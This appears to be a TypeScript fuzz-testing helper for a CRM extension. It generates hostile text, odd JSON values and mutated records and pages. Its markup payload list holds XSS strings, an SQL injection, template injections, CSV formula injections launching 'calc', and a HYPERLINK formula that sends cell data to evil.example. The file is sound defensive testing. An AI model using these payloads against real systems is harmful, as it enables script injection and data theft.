// Shared fast-check arbitraries for the "nothing lost, nothing leaked" tests: hostile values, mutated fixture records and pages.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { parseMessage } from '../../lib/messages';
import type { ActivityFields, DealFields, ManagerFields, PipelineFields, Problem, Snapshot, StageFields, TaskFields } from '../../lib/model';

// ---------------------------------------------------------------- how long to fuzz

/** Runs of a cheap property (a parser); `FUZZ_RUNS=200000 npx vitest …` fuzzes long. */
export const FUZZ_RUNS = Math.max(1, Number(process.env.FUZZ_RUNS ?? 10_000));
export const RUNS = {
  parser: FUZZ_RUNS,
  /** An adapter's JSON mapper: microseconds a record, but many mappers. */
  json: Math.ceil(FUZZ_RUNS / 20),
  /** A fixture page cloned, mutated and read: milliseconds a run in jsdom. */
  dom: Math.ceil(FUZZ_RUNS / 200),
  /** A database per run (fake IndexedDB). */
  db: Math.ceil(FUZZ_RUNS / 100),
} as const;
/** Per-test timeout that grows with FUZZ_RUNS, so long runs are not cut by vitest's 5 s default. */
export const FUZZ_TIMEOUT = Math.max(60_000, FUZZ_RUNS * 10);

// ---------------------------------------------------------------- hostile text

/** Property names that find something on Object.prototype when used as a plain-object key. */
export const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf', '__defineGetter__'] as const;

/** Markup and formulas as a CRM user might type them into a deal, client or manager name. */
export const MARKUP_PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(document.cookie)</script>',
  'javascript:alert(1)',
  '"><svg onload=alert(1)>',
  "'); DROP TABLE deals; --",
  '=HYPERLINK("https://evil.example/?"&A1,"Открыть")',
  '+7 (999) 123-45-67',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
] as const;

/** Names as real teams write them: Cyrillic, Kazakh, Uzbek, Arabic, Hebrew, emoji, combining marks, bidi controls. */
export const WORLD_NAMES = [
  'Ирина Ковалёва',
  'ООО «Ромашка» — поставка',
  'Әлия Нұрланқызы',
  'ТОО «Алтын Дала»',
  'Oʻktam Xoʻjayev',
  "MChJ 'Toshkent Savdo'",
  'محمد الأحمد',
  'שרה כהן',
  '\u202Egnp.exe\u202C',
  '👩‍💼 Анна 🚀',
  '🇰🇿🇺🇿',
  'Zoë e\u0301',
  'a\u200bb\u200dc',
  '\u00a0',
  ' ',
  '',
  '\u0000',
  '1 250 000 ₽',
  'Сегодня 14:30',
] as const;

/** A lone surrogate: valid in a JS string and in JSON ("\\ud800"), but encodeURIComponent throws on it. Added to the pool where a test asks for it. */
export const LONE_SURROGATE = '\ud800';

/** Short text of every kind, without prototype names and very long strings (for properties about ordinary values). */
export const saneText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom<string>(...MARKUP_PAYLOADS, ...WORLD_NAMES), weight: 3 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 1 },
  { arbitrary: fc.string({ maxLength: 40 }), weight: 2 },
).filter((s) => !(PROTOTYPE_NAMES as readonly string[]).includes(s.trim()));

/** Any text at all, including prototype names and strings far over every field limit. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: saneText, weight: 8 },
  { arbitrary: fc.constantFrom<string>(...PROTOTYPE_NAMES), weight: 2 },
  { arbitrary: fc.string({ unit: 'grapheme', minLength: 200, maxLength: 3000 }), weight: 1 },
  { arbitrary: fc.integer({ min: 200, max: 20_000 }).map((n) => 'Я'.repeat(n)), weight: 1 },
);

// ---------------------------------------------------------------- hostile JSON values

const oddNumbers = [0, -0, 1, -1, 0.1, -0.5, NaN, Infinity, -Infinity] as const;
const hugeNumbers = [1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 53, 1e21, 1e16, Number.MIN_VALUE] as const;
const numericText = ['0', '-0', '1e21', 'NaN', 'Infinity', '0x1F', ' 12 ', '1,5', '1 250 000', '12.03.2026', '2026-13-45T99:99:99Z', 'null', 'true', 'Y', 'N'] as const;

function valuesOf(text: fc.Arbitrary<string>, numbers: fc.Arbitrary<number>, extraText: readonly string[] = []): fc.Arbitrary<unknown> {
  return fc.oneof(
    { arbitrary: fc.constantFrom<unknown>(undefined, null, true, false, ...oddNumbers), weight: 4 },
    { arbitrary: numbers, weight: 3 },
    { arbitrary: text, weight: 5 },
    { arbitrary: fc.constantFrom<string>(...numericText, ...extraText), weight: 2 },
    { arbitrary: numbers.map(String), weight: 2 },
    { arbitrary: fc.constantFrom<unknown>([], {}, [null], [{}], { id: null }, { name: '<b>x</b>' }, [[[]]]), weight: 1 },
  );
}

/** A wrong-typed, missing, empty or odd value, without prototype names, huge numbers or very long strings: for "the output is valid" properties. */
export const saneValue: fc.Arbitrary<unknown> = valuesOf(
  saneText,
  fc.oneof(fc.integer({ min: -4_000_000_000, max: 4_000_000_000 }), fc.double({ min: -4e9, max: 4e9, noNaN: true })),
);

/** Anything JSON (or structured clone) can carry, huge numbers and prototype names included: for "never throws". */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: valuesOf(hostileText, fc.oneof(fc.integer(), fc.double(), fc.constantFrom<number>(...hugeNumbers)), ['1e308', '99999999999999999999']), weight: 6 },
  { arbitrary: fc.jsonValue({ maxDepth: 2 }), weight: 1 },
);

// ---------------------------------------------------------------- mutated records

type Path = ReadonlyArray<string | number>;

function pathsOf(value: unknown, depth = 4, prefix: Path = []): Path[] {
  const out: Path[] = [prefix];
  if (depth === 0 || typeof value !== 'object' || value === null) return out;
  const entries: Array<[string | number, unknown]> = Array.isArray(value) ? value.map((v, i) => [i, v]) : Object.entries(value);
  for (const [key, child] of entries) out.push(...pathsOf(child, depth - 1, [...prefix, key]));
  return out;
}

function containerAt(root: unknown, path: Path): Record<string | number, unknown> | null {
  let node: unknown = root;
  for (const key of path) {
    if (typeof node !== 'object' || node === null) return null;
    node = (node as Record<string | number, unknown>)[key];
  }
  return typeof node === 'object' && node !== null ? (node as Record<string | number, unknown>) : null;
}

/** Defines an own property even for "__proto__", as JSON.parse does (plain assignment would set the prototype). */
function defineOwn(target: object, key: string | number, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

export interface RecordMutation {
  op: 'delete' | 'set' | 'add' | 'replace-all';
  at: number;
  key: string;
  value: unknown;
}

export function applyRecordMutations(record: unknown, mutations: readonly RecordMutation[]): unknown {
  let root: unknown = structuredClone(record);
  for (const mutation of mutations) {
    // A copy: the generated value may be a shared constant, which a later "add" must not change for other runs.
    const m = { ...mutation, value: structuredClone(mutation.value) };
    if (m.op === 'replace-all') {
      root = m.value;
      continue;
    }
    const paths = pathsOf(root).filter((p) => p.length > 0);
    const path = paths[m.at % Math.max(1, paths.length)];
    if (m.op === 'add' || path === undefined) {
      const containers = pathsOf(root).filter((p) => containerAt(root, p) !== null);
      const target = containerAt(root, containers[m.at % Math.max(1, containers.length)] ?? []);
      if (target && !Array.isArray(target)) defineOwn(target, m.key, m.value);
      continue;
    }
    const parent = containerAt(root, path.slice(0, -1));
    const key = path[path.length - 1];
    if (parent === null || key === undefined) continue;
    if (m.op === 'delete') {
      if (Array.isArray(parent) && typeof key === 'number') parent.splice(key, 1);
      else Reflect.deleteProperty(parent, key);
    } else {
      defineOwn(parent, key, m.value);
    }
  }
  return root;
}

/** One to five mutations: fields removed, retyped or emptied, unknown (and "__proto__") keys added, rarely the whole record replaced. */
export function recordMutations(values: fc.Arbitrary<unknown>): fc.Arbitrary<RecordMutation[]> {
  const mutation = fc.record({
    op: fc.constantFrom<RecordMutation['op']>('delete', 'delete', 'set', 'set', 'set', 'add', 'replace-all'),
    // Unbiased: fc.nat() favours small numbers, which would keep hitting the first fields of a record.
    at: fc.noBias(fc.nat()),
    key: fc.oneof(fc.constantFrom<string>(...PROTOTYPE_NAMES, 'id', 'name', 'extra'), fc.string({ maxLength: 8 })),
    value: values,
  });
  return fc.array(mutation, { minLength: 1, maxLength: 5 }).map((list) =>
    // "replace-all" is kept rare: most runs should exercise the field readers, not the "not an object" branch.
    list.filter((m, i) => m.op !== 'replace-all' || (i === 0 && m.at % 4 === 0)),
  );
}

/** A fixture record with mutations applied; the mutations stay visible in a counterexample. */
export function mutatedRecord(records: readonly unknown[], values: fc.Arbitrary<unknown>): fc.Arbitrary<{ original: unknown; mutations: RecordMutation[]; record: unknown }> {
  return fc.tuple(fc.constantFrom(...records), recordMutations(values)).map(([original, mutations]) => ({
    original,
    mutations,
    record: applyRecordMutations(original, mutations),
  }));
}

// ---------------------------------------------------------------- mutated pages

export interface DomMutation {
  op: 'remove' | 'rename-class' | 'empty-text' | 'garbage-text' | 'drop-attribute' | 'garbage-attribute' | 'duplicate' | 'unwrap';
  /** Which element of the scope (modulo how many there are when the mutation is applied). */
  at: number;
  /** Which attribute, for the attribute mutations. */
  pick: number;
  text: string;
}

export function domMutations(text: fc.Arbitrary<string> = saneText, maxLength = 6): fc.Arbitrary<DomMutation[]> {
  return fc.array(
    fc.record({
      op: fc.constantFrom<DomMutation['op']>('remove', 'rename-class', 'empty-text', 'garbage-text', 'drop-attribute', 'garbage-attribute', 'duplicate', 'unwrap'),
      // Unbiased, so every element of the page is as likely to be hit as the first few.
      at: fc.noBias(fc.nat()),
      pick: fc.noBias(fc.nat()),
      text,
    }),
    { minLength: 1, maxLength },
  );
}

/**
 * Applies the mutations to the elements below `scope` (never to `scope` itself, so a card keeps its identity).
 * Attributes named in `keep` are left alone (to step around a known bug while the rest is fuzzed).
 */
export function applyDomMutations(scope: ParentNode, mutations: readonly DomMutation[], keep: readonly string[] = []): void {
  for (const m of mutations) {
    const elements = [...scope.querySelectorAll('*')];
    const el = elements[m.at % Math.max(1, elements.length)];
    if (!el) return;
    switch (m.op) {
      case 'remove':
        el.remove();
        break;
      case 'rename-class':
        el.setAttribute('class', `renamed-${m.pick % 7}`);
        break;
      case 'empty-text':
        el.textContent = '';
        break;
      case 'garbage-text':
        el.textContent = m.text;
        break;
      case 'drop-attribute':
      case 'garbage-attribute': {
        const attribute = el.attributes[m.pick % Math.max(1, el.attributes.length)];
        if (!attribute || keep.includes(attribute.name)) break;
        if (m.op === 'drop-attribute') el.removeAttribute(attribute.name);
        else el.setAttribute(attribute.name, m.text);
        break;
      }
      case 'duplicate':
        el.after(el.cloneNode(true));
        break;
      case 'unwrap':
        el.replaceWith(...el.childNodes);
        break;
    }
  }
}

/**
 * A fixture page parsed once and cloned per run. Inline styles are dropped first: no adapter reads them, and jsdom
 * re-parses every style attribute on clone, which made the Bitrix24 page four times slower to fuzz.
 */
export class FixturePage {
  private readonly template: HTMLTemplateElement;
  constructor(readonly path: string) {
    const html = readFileSync(path, 'utf8')
      .replace(/<style[\s\S]*?<\/style>/gi, '')
      .replace(/\sstyle="[^"]*"/gi, '');
    const parsed = new DOMParser().parseFromString(html, 'text/html');
    this.template = document.createElement('template');
    this.template.innerHTML = parsed.body.innerHTML;
  }
  /** A fresh copy of the page body, to mutate and read. */
  fragment(): DocumentFragment {
    return this.template.content.cloneNode(true) as DocumentFragment;
  }
  private reusable: Document | null = null;
  /**
   * A document holding `body` (or an unmutated copy of the page), for adapter.read. One document per page is reused:
   * a new jsdom document per run is not collected soon enough, and long runs (FUZZ_RUNS=200000) ran out of memory.
   */
  document(body: DocumentFragment = this.fragment()): Document {
    this.reusable ??= document.implementation.createHTMLDocument('fixture');
    this.reusable.body.replaceChildren(body);
    return this.reusable;
  }
}

export const FIXTURES = join(import.meta.dirname, '../fixtures');
export const fixtureJson = (path: string): unknown => JSON.parse(readFileSync(join(FIXTURES, path), 'utf8'));

// ---------------------------------------------------------------- what the background accepts

/** Records (and, for account mappers, the account's own fields) to put in a snapshot for the background to judge. */
export type SnapshotLists = Partial<Pick<Snapshot, 'accountName' | 'currency' | 'currentUserId'>> & {
  managers?: ManagerFields[];
  pipelines?: PipelineFields[];
  stages?: StageFields[];
  deals?: DealFields[];
  tasks?: TaskFields[];
  activities?: ActivityFields[];
  problems?: Problem[];
};

/** Why the background would refuse these records in a snapshot of `account`, or "ok". */
export function backgroundVerdict(account: string, lists: SnapshotLists): string {
  const snapshot: Snapshot = {
    crm: 'generic',
    account,
    accountName: 'fuzz',
    currency: 'RUB',
    readAt: 0,
    source: 'api',
    currentUserId: null,
    managers: [],
    pipelines: [],
    stages: [],
    deals: [],
    tasks: [],
    activities: [],
    problems: [],
    ...lists,
  };
  return snapshotVerdict(snapshot);
}

export function snapshotVerdict(snapshot: Snapshot): string {
  const parsed = parseMessage({ kind: 'snapshot', part: { index: 0, count: 1 }, snapshot });
  return parsed.ok ? 'ok' : parsed.error;
}

/** A problem a person can read: a code and a message, both non-empty text. */
export function isReadableProblem(problem: Problem): boolean {
  return typeof problem.code === 'string' && problem.code !== '' && typeof problem.message === 'string' && problem.message.trim() !== '';
}

/** Every epoch-millisecond field of a record that is set must be a date JavaScript can show (|ms| ≤ 8.64e15). */
export const MAX_DATE_MS = 8.64e15;
